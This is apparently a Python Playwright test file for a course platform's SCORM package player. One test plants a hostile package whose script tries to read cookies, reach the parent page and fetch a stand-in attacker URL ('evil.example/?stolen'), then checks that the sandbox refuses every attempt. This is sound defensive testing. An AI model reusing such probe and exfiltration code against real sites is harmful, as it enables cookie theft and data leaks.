"""Packages made elsewhere in a real browser: the real ones run and report, a hostile one reaches nothing."""

import io
import re
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import expect

from courses.packages import views

pytestmark = pytest.mark.browser

CASES = Path(__file__).resolve().parents[3] / "shared" / "cases" / "scorm"
DESK = "/courses/write/gerontology/packages"
HOSTILE = """<html><head><title>x</title></head><body><script>
const tried = {};
const note = (name, step) => { try { step(); tried[name] = "reached"; } catch { tried[name] = "refused"; } };
note("cookie", () => { if (document.cookie) return; throw new Error(); });
note("top", () => top.document.body);
note("house", () => lmsPackage.house.document.body);
window.open("/account");
const far = ["/", "/account", "https://evil.example/?stolen"].map((address) =>
  fetch(new URL(address, location.href)).then(() => "reached", () => "refused"));
Promise.all(far).then((found) => {
  const all = Object.values(tried).concat(found);
  API.LMSInitialize("");
  API.LMSSetValue("cmi.suspend_data", all.join(" "));
  API.LMSCommit("");
  document.title = "done";
});
</script></body></html>"""
MANIFEST = """<manifest><metadata><schemaversion>1.2</schemaversion></metadata><organizations><organization identifier="a">
<title>悪い教材</title><item identifierref="r"><title>悪い</title></item></organization></organizations>
<resources><resource identifier="r" href="a.html"/></resources></manifest>"""


def brought_in(page, path):
    page.goto(DESK)
    page.locator("#package").set_input_files(path)
    page.get_by_role("button", name="加える").click()


def claims(data):
    with closing(sqlite3.connect(data / "network.sqlite3")) as connection:
        return connection.execute("SELECT complete, passed, score, state FROM package_claim ORDER BY id").fetchall()


def learned_by_hanako(new_page, sign_in_as, title):
    page = sign_in_as(new_page("phone"), "hanako")
    page.goto("/courses/gerontology")
    page.get_by_role("link", name=title).last.click()
    return page


@pytest.mark.skipif(not CASES.is_dir(), reason="../shared/cases is not here")
@pytest.mark.parametrize("name", ["singlescobasic.zip", "RuntimeBasicCalls_SCORM20043rdEdition.zip"])
def test_a_real_package_runs_reports_and_finds_its_place_again(page, new_page, sign_in_as, axe, live_server, name):
    sign_in_as(page, "mori")
    brought_in(page, CASES / name)
    page.get_by_role("button", name="受講者に見せる").last.click()
    before = len(claims(live_server.data))
    learner = learned_by_hanako(new_page, sign_in_as, "Golf Explained")
    part = learner.frame_locator("iframe[data-package]")
    inner = part.frame_locator("#contentFrame")

    for _ in range(25):
        if part.locator("#butNext").is_disabled():
            break
        part.locator("#butNext").click()
    expect(inner.get_by_role("button", name=re.compile("Submit"))).to_be_visible()
    with learner.expect_response(lambda answer: answer.request.method == "POST"):
        inner.get_by_role("button", name=re.compile("Submit")).click()
    shown = int(re.search(r"Score: (\d+)", inner.locator("body").inner_text())[1])
    expect(learner.locator("[data-kept-word]")).to_be_visible()
    axe(learner)
    learner.on("dialog", lambda dialog: dialog.accept())
    learner.reload()

    expect(part.locator("#butNext")).to_be_disabled()
    complete, _, score, _ = claims(live_server.data)[before]
    assert (complete, score) == (1, shown)


@pytest.mark.skipif(not CASES.is_dir(), reason="../shared/cases is not here")
def test_a_package_without_organisation_is_refused_with_a_sentence(page, sign_in_as):
    sign_in_as(page, "mori")

    brought_in(page, CASES / "singlescobasic_missingorg.zip")

    expect(page.get_by_text("何を最初に開くかが書かれていません").first).to_be_visible()


def test_a_hostile_package_reaches_neither_the_site_nor_the_world(page, new_page, sign_in_as, live_server, tmp_path):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("imsmanifest.xml", MANIFEST)
        archive.writestr("a.html", HOSTILE)
    (tmp_path / "a.zip").write_bytes(stream.getvalue())
    sign_in_as(page, "mori")
    brought_in(page, tmp_path / "a.zip")
    page.get_by_role("button", name="受講者に見せる").last.click()

    learner = learned_by_hanako(new_page, sign_in_as, "悪い")

    expect(learner.locator("[data-kept-word]")).to_be_visible()
    assert '"suspend_data": "refused refused refused refused refused refused"' in claims(live_server.data)[-1][3]
    assert len(learner.context.pages) == 1


def test_what_a_part_said_last_is_sent_when_its_page_is_left_while_a_message_is_on_its_way(page):
    page.set_content(
        "<iframe data-package></iframe><form data-claims action='about:blank'></form>"
        "<p data-kept-word></p><p data-lost-word></p><p data-over-word></p>"
    )
    page.evaluate("""() => {
      window.asked = [];
      window.fetch = (_, options) => { asked.push([options.body.get("state"), options.keepalive]); return new Promise(() => {}); };
      window.tell = (cmi) => window.dispatchEvent(new MessageEvent("message", {
        source: document.querySelector("iframe").contentWindow, data: { lmsPackage: "state", cmi },
      }));
    }""")
    page.add_script_tag(path=Path(views.__file__).parent / "static" / "player.js")

    page.evaluate("() => { tell(1); tell(2); tell(3); }")
    assert page.evaluate("asked") == [["1", False]]
    page.evaluate("dispatchEvent(new PageTransitionEvent('pagehide'))")

    assert page.evaluate("asked") == [["1", False], ["3", True]]
